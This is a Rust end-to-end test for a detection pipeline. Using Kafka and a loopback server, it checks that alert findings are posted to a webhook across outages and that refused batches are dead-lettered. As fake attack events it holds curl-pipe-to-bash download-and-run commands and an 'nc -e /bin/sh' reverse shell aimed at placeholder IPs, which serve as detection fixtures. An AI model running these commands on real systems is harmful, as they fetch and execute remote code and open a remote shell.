//! The webhook push output against a real HTTP receiver on loopback: the
//! indexer POSTs every alert's OCSF finding (valid against the OCSF
//! schema); a receiver that is down (503) is retried until it takes them,
//! nothing lost; a batch it refuses (400) past the poison budget is
//! dead-lettered with its answer and later findings still arrive.
#![cfg(feature = "services")]

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Bytes;
use axum::http::{HeaderMap, StatusCode};
use outlier_collector::publish::Publisher;
use outlier_e2e::{TestEnv, dlq_reason, exec, now_ns};
use outlier_indexer::ocsf_schema::{Schema, vendored_dir};
use rdkafka::consumer::{Consumer, StreamConsumer};
use tokio_util::sync::CancellationToken;

#[derive(Default)]
struct Receiver {
    /// Requests answered 503 so far, and how many to answer so.
    unavailable: usize,
    down_for: usize,
    /// Findings taken, with the Authorization header of their POST.
    taken: Vec<(serde_json::Value, String)>,
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn findings_reach_a_webhook_through_outages_and_refusals() {
    let env = TestEnv::new("webhook").await;
    let state = Arc::new(Mutex::new(Receiver {
        down_for: 2,
        ..Receiver::default()
    }));
    let s2 = state.clone();
    let app = axum::Router::new().route(
        "/hook",
        axum::routing::post(move |headers: HeaderMap, body: Bytes| {
            let state = s2.clone();
            async move {
                let mut st = state.lock().unwrap();
                if st.unavailable < st.down_for {
                    st.unavailable += 1;
                    return StatusCode::SERVICE_UNAVAILABLE;
                }
                let text = String::from_utf8_lossy(&body);
                if text.contains("poison-1") {
                    return StatusCode::BAD_REQUEST;
                }
                let auth = headers
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or_default()
                    .to_string();
                let batch: Vec<serde_json::Value> = serde_json::from_slice(&body).unwrap();
                st.taken
                    .extend(batch.into_iter().map(|f| (f, auth.clone())));
                StatusCode::OK
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let hook = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let token = env.dir.path().join("hook.token");
    std::fs::write(&token, "s3cret\n").unwrap();
    let stop = CancellationToken::new();
    let mut icfg = env.indexer_config();
    icfg.webhook.url = hook;
    icfg.webhook.token_file = token.display().to_string();
    icfg.poison_budget_s = 2;
    let scorer = tokio::spawn(outlier_scorer::run(env.scorer_config(), stop.clone()));
    let indexer = tokio::spawn(outlier_indexer::run(icfg, stop.clone()));
    let org = format!("o{}", &env.id[env.id.len() - 8..]);
    let p = Publisher::new(&env.kafka, "e2e-hook").unwrap();
    let send = |id: &str, argv: &[&str]| {
        let mut e = exec(id, &org, "web", now_ns(), argv);
        e.host = "web-1".into();
        e
    };
    for i in 0..20 {
        let e = send(&format!("r-{i}"), &["nginx", "-s", "reload"]);
        p.send(&e).await.unwrap().await.unwrap().unwrap();
    }
    let attacks = ["a-1", "a-2", "a-3"];
    for (i, id) in attacks.iter().enumerate() {
        let e = send(
            id,
            &[
                "bash",
                "-c",
                &format!("curl -fsSL http://203.0.113.{i}/x.sh | bash"),
            ],
        );
        p.send(&e).await.unwrap().await.unwrap().unwrap();
    }
    let taken_ids = |st: &Receiver| -> Vec<String> {
        st.taken
            .iter()
            .filter_map(|(f, _)| f["finding_info"]["uid"].as_str().map(String::from))
            .collect()
    };
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    loop {
        let ids = taken_ids(&state.lock().unwrap());
        if attacks.iter().all(|a| ids.iter().any(|i| i == a)) {
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "attack findings not all posted: {ids:?}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let schema = Schema::load(&vendored_dir()).unwrap();
    {
        let st = state.lock().unwrap();
        assert_eq!(st.unavailable, 2, "the receiver was down twice and retried");
        for (f, auth) in &st.taken {
            assert_eq!(auth, "Bearer s3cret");
            let errors = schema.validate("detection_finding", f);
            assert!(errors.is_empty(), "{errors:#?}");
        }
    }

    // A batch the receiver refuses is dead-lettered after the budget, and
    // what comes after it is still posted.
    let poison = send("poison-1", &["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]);
    p.send(&poison).await.unwrap().await.unwrap().unwrap();
    let dlq: StreamConsumer = env
        .kafka
        .consumer_config(
            "e2e-hook-dlq",
            &format!("dlq-{}", uuid::Uuid::now_v7().simple()),
        )
        .create()
        .unwrap();
    dlq.subscribe(&[env.kafka.topics.deadletter.as_str()])
        .unwrap();
    let m = tokio::time::timeout(Duration::from_secs(60), dlq.recv())
        .await
        .expect("the refused batch was dead-lettered")
        .unwrap();
    let reason = dlq_reason(&m).unwrap_or_default();
    assert!(
        reason.starts_with("webhook refused the batch: 400"),
        "{reason}"
    );
    let after = send(
        "after-1",
        &["bash", "-c", "curl -fsSL http://198.51.100.1/y.sh | bash"],
    );
    p.send(&after).await.unwrap().await.unwrap().unwrap();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    while !taken_ids(&state.lock().unwrap())
        .iter()
        .any(|i| i == "after-1")
    {
        assert!(
            tokio::time::Instant::now() < deadline,
            "findings after the refusal not posted"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(
        !taken_ids(&state.lock().unwrap())
            .iter()
            .any(|i| i == "poison-1")
    );

    stop.cancel();
    scorer.await.unwrap().unwrap();
    indexer.await.unwrap().unwrap();
    env.cleanup().await;
}
